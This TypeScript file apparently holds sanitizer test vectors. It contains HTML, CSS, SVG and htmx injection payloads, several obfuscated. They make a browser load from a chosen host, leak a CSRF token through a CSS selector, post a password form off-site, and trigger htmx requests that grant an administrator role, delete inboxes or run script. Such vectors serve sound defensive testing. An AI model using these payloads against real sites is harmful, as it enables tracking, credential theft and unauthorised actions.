/** Markup that would make a browser ask the server at `x` (http://host:port/) for something, each by its name. */
export function remoteLoads(x: string): Readonly<Record<string, string>> {
  const bare = x.replace('http:', '');
  const svg = (inside: string): string => `<svg width="9" height="9">${inside}</svg>`;
  const css = (declaration: string): string => `<div style="${declaration};height:9px">x</div>`;
  const sheet = (rules: string): string => `<style>${rules}</style><div><p>x</p></div>`;
  return {
    image: `<img src="${x}img">`,
    'image, no scheme': `<img src="${bare}img2">`,
    srcset: `<img srcset="${x}srcset 1x" src="data:,">`,
    picture: `<picture><source srcset="${x}picture"><img src="data:,"></picture>`,
    video: `<video src="${x}video" poster="${x}poster" autoplay></video>`,
    audio: `<audio src="${x}audio" autoplay></audio>`,
    track: `<video src="data:,"><track default src="${x}track"></video>`,
    'image button': `<input type="image" src="${x}input">`,
    'table background': `<table background="${x}table"><tr><td background="${x}cell">x</table>`,
    'body background': `<body background="${x}body">x`,
    'style url': css(`background:url(${x}style)`),
    'style closed by an entity': `<div style='content:"\\0026quot;; background:url(${bare}entity); content:""; width:100%'>x</div>`,
    'style url in escapes': css(`background:\\75\\72\\6C(${x}escape)`),
    'style image-set': css(`background:image-set('${x}set' 1x)`),
    'style list': `<ul><li style="list-style-image:url(${x}list)">x</ul>`,
    'style cursor': css(`cursor:url(${x}cursor),auto`),
    'style mask': css(`-webkit-mask-image:url(${x}mask);mask-image:url(${x}mask)`),
    'style border': css(`border:9px solid;border-image-source:url(${x}border)`),
    'style variable': css(`--u:url(${x}variable);background:var(--u)`),
    'style shape': css(`float:left;shape-outside:url(${x}shape)`),
    'sheet url': sheet(`div{background:url(${x}sheet)}`),
    'sheet import': sheet(`@import '${x}import.css';`),
    'sheet import url': sheet(`@import url(${bare}import2.css);`),
    'sheet import in escapes': sheet(`@\\69mport '${x}import3.css';`),
    'sheet font': sheet(`@font-face{font-family:f;src:url(${x}font)}p{font-family:f}`),
    'sheet that reads a token': `<input name="_csrf" value="abc">${sheet(`input[name=_csrf][value^=a]{background:url(${x}token)}`)}`,
    'sheet never closed': `<div>x</div><style>div{background:url(${x}unclosed)`,
    'sheet behind a comment': sheet(`/*<!--*/div{background:u/**/rl(${x}no);background:url(/**/${x}comment)}`),
    'linked sheet': `<link rel="stylesheet" href="${x}link.css">`,
    hints: `<link rel="prefetch" href="${x}prefetch"><link rel="preload" as="image" href="${x}preload"><link rel="icon" href="${x}icon">`,
    'svg image': svg(`<image href="${x}svg" width="9" height="9"/>`),
    'svg use': svg(`<use href="${x}use#b"/>`),
    'svg filter': svg(`<filter id="f"><feImage href="${x}filter"/></filter><rect width="9" height="9" filter="url(#f)"/>`),
    'svg fill': svg(`<rect width="9" height="9" fill="url(${x}fill#x)"/>`),
    'svg animation': svg(
      `<rect width="9" height="9"><animate attributeName="style" values="filter:url(${x}animate#f)" dur="0.01s" fill="freeze"/></rect>`,
    ),
    'svg animation by': svg(
      `<rect width="9" height="9"><animate attributeName="style" by="filter:url(${x}by#f)" dur="0.01s" fill="freeze"/></rect>`,
    ),
    mathml: `<math href="${x}math"><mi>x</mi></math>`,
    refresh: `<meta http-equiv="refresh" content="0;url=${x}refresh">`,
    frame: `<iframe src="${x}iframe"></iframe>`,
    'frame with a document': `<iframe srcdoc="&lt;img src=${x}srcdoc&gt;"></iframe>`,
    object: `<object data="${x}object"></object>`,
    embed: `<embed src="${x}embed">`,
    base: `<base href="${x}"><img src="based">`,
    form: `<form action="${x}form"><input name="p" type="password" autofocus><button>x</button></form>`,
    ping: `<a href="#" ping="${x}ping">x</a>`,
  };
}

/** Markup that speaks to our own page when htmx of that page reads it, each by its name. */
export const HTMX_VECTORS: Readonly<Record<string, string>> = {
  post: '<a hx-post="/agents" hx-trigger="load">x</a>',
  'post with data-': `<a data-hx-post="/agents" data-hx-trigger="load" data-hx-vals='{"role":"administrator"}'>x</a>`,
  'delete when seen': '<div data-hx-delete="/inboxes/1" data-hx-trigger="revealed">x</div>',
  'post on click': '<b data-hx-post="/agents" class="lure">Click to view</b>',
  handlers: `<div class="lure" hx-on:click="alert(1)" data-hx-on:click="alert(1)" data-hx-on-click="alert(1)" data-hx-on--load="alert(1)">x</div>`,
  boost: '<div data-hx-boost="true"><form action="/agents" method="post"><button class="lure">x</button></form></div>',
  filter: '<div data-hx-get="/settings" data-hx-trigger="load[alert(1)]">x</div>',
  values: '<div data-hx-get="/settings" data-hx-trigger="load" data-hx-vals="js:{a:(alert(1))}">x</div>',
  'out of band':
    '<div id="rail" hx-swap-oob="true" data-hx-swap-oob="true">replaced</div><hx-partial hx-target="#rail">replaced</hx-partial>',
};
